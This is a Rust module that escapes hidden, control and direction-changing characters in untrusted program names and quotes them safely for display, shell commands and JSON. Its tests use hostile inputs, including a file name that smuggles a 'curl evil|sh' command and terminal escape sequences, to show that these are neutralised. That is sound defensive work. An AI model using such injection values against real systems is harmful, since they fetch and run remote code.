//! Text that others wrote, made fit for people.
//!
//! Names of programs, functions, threads and operations come from the target, whose owner may have put anything into them:
//! an escape sequence would speak to the terminal of whoever reads them, a newline would begin a line that nobody wrote, a
//! character that turns the direction of writing would show another name than there is. Such characters are written out
//! (`\x1b`, `\n`, `\u{202e}`). Recorded data stay as they were seen; what people read goes through here.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Characters that show nothing themselves and change how others are shown, or end a line.
#[must_use]
pub fn is_hidden(c: char) -> bool {
    // C0, DEL and C1.
    c.is_control()
        || matches!(
            c,
            // soft hyphen; Arabic letter mark; Hangul fillers; Mongolian vowel separator
            '\u{ad}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{180e}' | '\u{3164}' | '\u{ffa0}'
            // zero width, left-to-right and right-to-left marks
            | '\u{200b}'..='\u{200f}'
            // line and paragraph separator, embeddings and overrides of direction
            | '\u{2028}'..='\u{202e}'
            // word joiner, invisible operators, isolates of direction, deprecated format characters
            | '\u{2060}'..='\u{206f}'
            // byte order mark, interlinear annotation, tags
            | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}'
        )
}

fn write_out(out: &mut String, c: char) {
    // Writing to a string does not fail.
    let _ = match c {
        '\n' => write!(out, "\\n"),
        '\r' => write!(out, "\\r"),
        '\t' => write!(out, "\\t"),
        c if u32::from(c) < 0x80 => write!(out, "\\x{:02x}", u32::from(c)),
        c => write!(out, "\\u{{{:x}}}", u32::from(c)),
    };
}

/// A name or a title: one line, with hidden characters written out.
#[must_use]
pub fn printable(text: &str) -> Cow<'_, str> {
    if !text.contains(is_hidden) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if is_hidden(c) { write_out(&mut out, c) } else { out.push(c) }
    }
    Cow::Owned(out)
}

/// A whole text: newlines and tabs stay, and so does each of `sequences` (the colours that we write ourselves).
#[must_use]
pub fn printable_text<'a>(text: &'a str, sequences: &[&str]) -> Cow<'a, str> {
    let keeps = |c: char| matches!(c, '\n' | '\t') || !is_hidden(c);
    if text.chars().all(keeps) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        if let Some(sequence) = sequences.iter().find(|s| !s.is_empty() && rest.starts_with(**s)) {
            out.push_str(sequence);
            rest = &rest[sequence.len()..];
            continue;
        }
        if keeps(c) {
            out.push(c)
        } else {
            write_out(&mut out, c)
        }
        rest = &rest[c.len_utf8()..];
    }
    Cow::Owned(out)
}

/// JSON with every hidden character escaped (`\u009b`), which means the same to whoever parses it. Outside of strings, where
/// escapes are not allowed, JSON has none of them but whitespace, which stays.
#[must_use]
pub fn printable_json(json: &str) -> Cow<'_, str> {
    let keeps = |c: char| matches!(c, '\n' | '\t' | '\r') || !is_hidden(c);
    if json.chars().all(keeps) {
        return Cow::Borrowed(json);
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if keeps(c) {
            out.push(c);
        } else {
            for unit in c.encode_utf16(&mut [0; 2]) {
                // Writing to a string does not fail.
                let _ = write!(out, "\\u{unit:04x}");
            }
        }
    }
    Cow::Owned(out)
}

/// A name as one word of a shell's command, in quotes where it needs them; `None`: what people would copy from a page is not
/// the name, as it has hidden characters, or the mark that commands are shown between.
#[must_use]
pub fn shell_word(text: &str) -> Option<Cow<'_, str>> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "._/@:+-".contains(c);
    if text.is_empty() || text.starts_with('-') || text.contains(|c| is_hidden(c) || c == '`') {
        return None;
    }
    if text.chars().all(plain) {
        return Some(Cow::Borrowed(text));
    }
    Some(Cow::Owned(format!("'{}'", text.replace('\'', r"'\''"))))
}

/// Makes a name printable in place.
pub fn make_printable(text: &mut String) {
    if let Cow::Owned(printable) = printable(text) {
        *text = printable;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hidden_characters_are_written_out() {
        let hostile = "a\x1b[31mb\nc\td\u{7f}e\u{9b}f\u{202e}g\u{200b}h\u{2066}i\u{feff}j\u{e0041}k\r\0";
        assert_eq!(
            printable(hostile),
            "a\\x1b[31mb\\nc\\td\\x7fe\\u{9b}f\\u{202e}g\\u{200b}h\\u{2066}i\\u{feff}j\\u{e0041}k\\r\\x00"
        );
        assert_eq!(printable_text("a\n\tb\x1b[2J\u{202e}", &[]), "a\n\tb\\x1b[2J\\u{202e}");
        let same = "größe::operator<< ‹…› 漢字 ±3 % ≥ 🦀";
        assert!(matches!(printable(same), Cow::Borrowed(text) if text == same));
        assert!(matches!(printable_text("a\nb", &[]), Cow::Borrowed("a\nb")));
    }

    #[test]
    fn no_character_that_acts_is_left() {
        for c in '\0'..=char::MAX {
            let text = printable(c.encode_utf8(&mut [0; 4])).into_owned();
            assert!(!text.contains(is_hidden) && !text.chars().any(char::is_control), "{c:?}");
            // The general category "format" of Unicode, by the blocks that matter to a terminal.
            assert!(
                !matches!(c, '\u{200e}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
                    || text.starts_with("\\u")
            );
        }
    }

    #[test]
    fn only_the_sequences_that_are_ours_stay() {
        let ours = ["\x1b[1m", "\x1b[0m"];
        assert_eq!(
            printable_text("\x1b[1mname\x1b[0m \x1b[2J\x1b", &ours),
            "\x1b[1mname\x1b[0m \\x1b[2J\\x1b"
        );
    }

    #[test]
    fn names_in_commands_are_one_word() {
        for plain in ["/usr/lib/libc.so.6", "a@b:c+d-e_f"] {
            assert!(matches!(shell_word(plain), Some(Cow::Borrowed(word)) if word == plain));
        }
        for (name, word) in [
            ("/x;curl evil|sh;/m", "'/x;curl evil|sh;/m'"),
            ("a b", "'a b'"),
            ("$(id)'\"\\", r#"'$(id)'\''"\'"#),
            ("größe", "'größe'"),
        ] {
            assert_eq!(shell_word(name).as_deref(), Some(word));
        }
        for hidden in ["", "-rf", "a\nb", "a\u{202e}b", "a`b"] {
            assert_eq!(shell_word(hidden), None);
        }
    }

    #[test]
    fn json_means_the_same() {
        let text = "a\u{9b}b\u{202e}c\u{e0041}d\x7f\x1b\n";
        let json = serde_json::to_string_pretty(&[text, "plain"]).unwrap();
        let safe = printable_json(&json);
        assert!(safe.chars().all(|c| c == '\n' || !is_hidden(c)), "{safe}");
        assert!(safe.contains("\\u202e") && safe.contains("\\udb40\\udc41"), "{safe}");
        assert_eq!(serde_json::from_str::<Vec<String>>(&safe).unwrap(), [text, "plain"]);
    }
}
